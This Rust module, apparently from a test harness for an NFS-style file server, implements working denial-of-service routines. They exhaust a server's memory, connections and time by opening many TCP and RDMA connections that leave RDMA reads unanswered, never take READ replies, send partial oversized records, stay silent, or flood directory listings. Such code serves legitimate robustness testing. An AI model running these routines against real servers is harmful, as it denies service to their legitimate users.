//! Attacks that hold what a server has for all its clients: memory, connections, time.

use std::{
    io::{self, Read, Write},
    net::{IpAddr, SocketAddr, TcpStream},
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering},
    },
    thread::JoinHandle,
    time::Duration,
};

use crate::{
    Event, Files, Peer, READ_WRITE,
    calls::{self, NULL, READ, READDIR, REMOVE},
    wire::connect_from,
};

/// Bytes of a large READ or WRITE.
const TRANSFER: u32 = 1 << 20;
/// A tag that is not exposed: nothing comes of it, since nothing that is for it is looked at.
const NOWHERE: u32 = 0x6666_6666;
/// How long a server may take to answer a call.
const PATIENCE: Duration = Duration::from_secs(20);

/// Connections that hold something until they are dropped.
#[derive(Default)]
pub struct Held {
    tcp: Vec<TcpStream>,
    rdma: Vec<Peer>,
    /// Makes calls until it is told to stop.
    busy: Vec<JoinHandle<()>>,
    stop: Arc<AtomicBool>,
}

impl Held {
    /// How many connections these are.
    pub fn connections(&self) -> usize {
        self.tcp.len() + self.rdma.len() + self.busy.len()
    }
}

impl Drop for Held {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        for thread in self.busy.drain(..) {
            drop(thread.join());
        }
    }
}

/// A call in a record.
fn record(xid: u32, procedure: [u32; 3], arguments: &[u8]) -> Vec<u8> {
    let call = calls::rpc(xid, procedure, arguments);
    [&(call.len() as u32 | 1 << 31).to_be_bytes()[..], &call].concat()
}

fn read_arguments(file: &[u8], count: u32) -> Vec<u8> {
    [calls::opaque(file), calls::words(&[0, 0, count])].concat()
}

/// Connects over RDMA, and gets as many credits as the server gives: with more calls the connection would end.
fn with_credits(to: SocketAddr, from: IpAddr) -> io::Result<(Peer, u32)> {
    let mut peer = Peer::over(connect_from(from, to)?)?.connected(READ_WRITE)?;
    peer.send(&[calls::words(&[1, 1, 64, 0, 0, 0, 0]), calls::rpc(1, NULL, &[])].concat())?;
    let Event::Send(reply, _) = peer.event()? else { return Err(io::ErrorKind::InvalidData.into()) };
    Ok((peer, calls::word(&reply, 8)?))
}

/// Calls that are in chunks of more than a MiB, none of whose RDMA Reads is answered.
///
/// # Errors
/// When the server cannot be reached.
pub fn unanswered_reads(to: SocketAddr, from: IpAddr, connections: u32, calls: u32) -> io::Result<Held> {
    let mut held = Held::default();
    for _ in 0..connections {
        let (mut peer, credits) = with_credits(to, from)?;
        for xid in 2..2 + calls.min(credits) {
            // RDMA_NOMSG with a Position-Zero chunk.
            let chunk = [1, 0, NOWHERE, TRANSFER + (64 << 10), 0, 0, 0];
            peer.send(
                &[calls::words(&[xid, 1, 64, 1]), calls::words(&chunk), calls::words(&[0, 0])].concat(),
            )?;
        }
        held.rdma.push(peer);
    }
    Ok(held)
}

/// READs over RDMA whose results are not taken.
///
/// # Errors
/// When the server cannot be reached.
pub fn untaken_rdma_writes(
    to: SocketAddr,
    from: IpAddr,
    file: &[u8],
    connections: u32,
    calls: u32,
) -> io::Result<Held> {
    let mut held = Held::default();
    for _ in 0..connections {
        let (mut peer, credits) = with_credits(to, from)?;
        for xid in 2..2 + calls.min(credits) {
            // RDMA_MSG with a Write chunk of one segment.
            let chunk = [1, 1, NOWHERE, TRANSFER, 0, 0, 0];
            let header = [&[xid, 1, 64, 0, 0][..], &chunk, &[0]].concat();
            let call = calls::rpc(xid, READ, &read_arguments(file, TRANSFER));
            peer.send(&[calls::words(&header), call].concat())?;
        }
        held.rdma.push(peer);
    }
    Ok(held)
}

/// READs over TCP whose replies are not taken.
///
/// # Errors
/// When the server cannot be reached.
pub fn untaken_replies(
    to: SocketAddr,
    from: IpAddr,
    file: &[u8],
    connections: u32,
    calls: u32,
) -> io::Result<Held> {
    let mut held = Held::default();
    for _ in 0..connections {
        let mut stream = connect_from(from, to)?;
        for xid in 0..calls {
            stream.write_all(&record(xid, READ, &read_arguments(file, TRANSFER)))?;
        }
        held.tcp.push(stream);
    }
    Ok(held)
}

/// Records of more than a MiB of which the first byte comes.
///
/// # Errors
/// When the server cannot be reached.
pub fn partial_records(to: SocketAddr, from: &[IpAddr], connections: usize) -> io::Result<Held> {
    let mut held = Held::default();
    for from in from.iter().cycle().take(connections) {
        let mut stream = connect_from(*from, to)?;
        stream.write_all(&(1 << 31 | (TRANSFER + 4096)).to_be_bytes())?;
        stream.write_all(&[0])?;
        held.tcp.push(stream);
    }
    Ok(held)
}

/// Connections on which nothing is sent.
///
/// # Errors
/// When the server cannot be reached.
pub fn silent(to: SocketAddr, from: &[IpAddr], connections: usize) -> io::Result<Held> {
    let mut held = Held::default();
    for from in from.iter().cycle().take(connections) {
        held.tcp.push(connect_from(*from, to)?);
    }
    Ok(held)
}

/// Listings of a MiB, so many waiting on each connection all the time.
///
/// # Errors
/// When the server cannot be reached.
pub fn listings(
    to: SocketAddr,
    from: IpAddr,
    directory: &[u8],
    connections: u32,
    waiting: u32,
) -> io::Result<Held> {
    let mut held = Held::default();
    let arguments = [calls::opaque(directory), calls::words(&[0, 0, 0, 0, TRANSFER])].concat();
    for _ in 0..connections {
        let mut stream = connect_from(from, to)?;
        stream.set_read_timeout(Some(Duration::from_millis(100)))?;
        for xid in 0..waiting {
            stream.write_all(&record(xid, READDIR, &arguments))?;
        }
        let (stop, arguments) = (Arc::clone(&held.stop), arguments.clone());
        held.busy.push(std::thread::spawn(move || {
            while !stop.load(Ordering::Relaxed) && take_record(&mut stream, &stop).is_ok() {
                if stream.write_all(&record(waiting, READDIR, &arguments)).is_err() {
                    return;
                }
            }
        }));
    }
    Ok(held)
}

/// Takes one record, and forgets it.
fn take_record(stream: &mut TcpStream, stop: &AtomicBool) -> io::Result<()> {
    let mut mark = [0; 4];
    read_exact(stream, &mut mark, stop)?;
    let mut body = vec![0; (u32::from_be_bytes(mark) & !(1 << 31)) as usize];
    read_exact(stream, &mut body, stop)
}

fn read_exact(stream: &mut TcpStream, mut bytes: &mut [u8], stop: &AtomicBool) -> io::Result<()> {
    while !bytes.is_empty() {
        match stream.read(bytes) {
            Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
            Ok(n) => bytes = bytes.get_mut(n..).unwrap_or_default(),
            Err(e) if e.kind() == io::ErrorKind::WouldBlock && !stop.load(Ordering::Relaxed) => {}
            Err(e) => return Err(e),
        }
    }
    Ok(())
}

/// One REMOVE that must fail from each of these addresses, with a handle that names nothing.
///
/// # Errors
/// When the server cannot be reached, or does not answer.
pub fn refused_changes(to: SocketAddr, from: impl IntoIterator<Item = IpAddr>) -> io::Result<u32> {
    let arguments = [calls::opaque(&[7; 32]), calls::opaque(b"name")].concat();
    let mut made = 0;
    for from in from {
        let mut stream = connect_from(from, to)?;
        stream.set_read_timeout(Some(PATIENCE))?;
        stream.write_all(&record(made, REMOVE, &arguments))?;
        take_record(&mut stream, &AtomicBool::new(true))?;
        made += 1;
    }
    Ok(made)
}

/// A REMOVE, and the status with which it is answered; sent again with the same `xid` it is the same call.
///
/// # Errors
/// When the server cannot be reached, or does not answer.
pub fn remove(to: SocketAddr, from: IpAddr, xid: u32, directory: &[u8], name: &str) -> io::Result<u32> {
    let mut stream = connect_from(from, to)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    stream.write_all(&record(
        xid,
        REMOVE,
        &[calls::opaque(directory), calls::opaque(name.as_bytes())].concat(),
    ))?;
    let mut reply = [0; 32];
    stream.read_exact(&mut reply)?;
    calls::word(&reply, 28)
}

/// The handles of an export's root, and of a file in it.
///
/// # Errors
/// When there are none.
pub fn handles(to: SocketAddr, export: &str, name: &str) -> io::Result<(Vec<u8>, Vec<u8>)> {
    let mut files = Files::new(Peer::connect(to, READ_WRITE)?);
    let root = files.mount(export)?;
    let file = files.lookup(&root, name)?;
    Ok((root, file))
}
